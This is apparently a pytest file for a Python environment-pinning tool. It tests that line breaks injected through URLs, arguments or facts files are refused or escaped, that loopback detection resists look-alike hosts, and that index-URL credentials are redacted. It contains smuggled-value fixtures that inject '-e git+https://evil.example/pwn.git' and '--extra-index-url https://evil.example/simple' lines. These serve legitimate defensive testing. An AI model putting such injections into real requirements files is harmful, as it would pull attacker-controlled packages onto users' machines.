"""What reaches a committed file is one line per thing and keeps secrets out: no line break smuggled in through a
URL, a flag or a facts file; loopback means loopback; credentials in an index URL are written as ****."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from envpin.base.errors import EnvpinInputError
from envpin.base.escapes import printable
from envpin.resolver.urls import checked_index_url, is_loopback, redact_credentials
from tests.conftest import REPO

TARGET = ["--os", "linux", "--arch", "x86_64", "--driver", "550.54.15", "--gpu", "NVIDIA GeForce RTX 3090", "--python", "3.11"]
INJECTED = "https://m.example/whl\n-e git+https://evil.example/pwn.git#egg=pwn"


def envpin(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "envpin", *args], capture_output=True, text=True, cwd=REPO,
                          timeout=120, env={**os.environ, **(env or {})}, stdin=subprocess.DEVNULL)


@pytest.mark.parametrize("how", ["option", "environment"])
def test_a_line_break_in_the_index_url_writes_nothing(tmp_path, how):
    output = tmp_path / "requirements.txt"
    if how == "option":
        result = envpin("solve", *TARGET, "--torch-index-url", INJECTED, "-o", str(output))
    else:
        result = envpin("solve", *TARGET, "-o", str(output), env={"ENVPIN_TORCH_INDEX_URL": INJECTED})
    assert result.returncode == 2 and result.stderr.count("\n") == 1
    assert "\\n-e git+" in result.stderr  # shown escaped, on the one line
    assert not output.exists() and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("option", ["--gpu", "--name", "--spec", "--python"])
def test_a_line_break_in_any_argument_is_refused(tmp_path, option):
    output = tmp_path / "environment.yml"
    args = [*TARGET, "--compute-capability", "8.6", option, "x\n- evil", "-o", str(output)]
    result = envpin("solve", *args)
    assert result.returncode == 2 and "control character" in result.stderr and not output.exists()


def test_a_gpu_name_with_a_line_break_from_a_facts_file_stays_inside_its_comment(tmp_path):
    facts = {"schema": 1, "os": "linux", "arch": "x86_64", "python": {"version": "3.11"},
             "driver": {"version": "550.54.15", "cuda": "12.4", "source": "nvml"},
             "gpus": [{"index": 0, "name": "RTX\n--extra-index-url https://evil.example/simple", "compute_capability": "8.6"}]}
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(facts))
    output = tmp_path / "requirements.txt"
    result = envpin("solve", "--facts", str(path), "-o", str(output))
    assert result.returncode == 0, result.stderr
    lines = output.read_text().splitlines()
    assert not any(line.startswith("--extra-index-url https://evil") for line in lines)
    assert any("RTX\\n--extra-index-url https://evil.example/simple" in line and line.startswith("# ") for line in lines)


def test_credentials_are_redacted_in_files_and_kept_in_the_command_to_run(tmp_path):
    url = "https://bob:s3cret@mirror.example/whl"
    output = tmp_path / "requirements.txt"
    written = envpin("solve", *TARGET, "--torch-index-url", url, "-o", str(output))
    assert written.returncode == 0, written.stderr
    text = output.read_text()
    assert "s3cret" not in text and "https://bob:****@mirror.example/whl/cu12" in text
    assert "netrc" in written.stderr
    for fmt in ("text", "json", "environment.yml"):
        shown = envpin("solve", *TARGET, "--torch-index-url", url, "--format", fmt)
        assert shown.returncode == 0 and "s3cret" not in shown.stdout and "bob:****@" in shown.stdout
    command = envpin("solve", *TARGET, "--torch-index-url", url, "--format", "pip")
    assert "https://bob:s3cret@mirror.example/whl/cu12" in command.stdout


@pytest.mark.parametrize("host, loopback", [
    ("localhost", True), ("LOCALHOST", True), ("127.0.0.1", True), ("127.8.9.10", True), ("::1", True),
    ("127.evil.com", False), ("127.0.0.1.nip.io", False), ("localhost.evil.com", False), ("0.0.0.0", False),
    ("10.0.0.1", False), ("", False),
])
def test_loopback_is_an_ip_literal_or_exactly_localhost(host, loopback):
    assert is_loopback(host) is loopback


@pytest.mark.parametrize("url", ["http://127.evil.com/whl", "http://127.0.0.1.nip.io/whl", "http://localhost.evil.com/whl"])
def test_a_name_that_looks_like_loopback_is_a_remote_http_index(url):
    with pytest.raises(EnvpinInputError, match="plain http on a remote host"):
        checked_index_url(url, "torch index URL")
    assert checked_index_url("http://[::1]:8080/whl", "torch index URL") == "http://[::1]:8080/whl"


@pytest.mark.parametrize("text, shown", [
    ("https://user:pass@host/simple", "https://user:****@host/simple"),
    ("https://token@host/simple", "https://****@host/simple"),
    ("--extra-index-url https://a:b@h/x and https://c:d@i/y", "--extra-index-url https://a:****@h/x and https://c:****@i/y"),
    ("https://host/simple", "https://host/simple"),
    ("user@example.com wrote", "user@example.com wrote"),
])
def test_redaction_follows_pip(text, shown):
    assert redact_credentials(text) == shown


def test_printable_escapes_what_would_start_a_line_or_drive_a_terminal():
    assert printable("RTX\n3090\x1b[31m\u2028") == "RTX\\n3090\\x1b[31m\\u2028"
    assert printable("NVIDIA GeForce RTX 3090") == "NVIDIA GeForce RTX 3090"
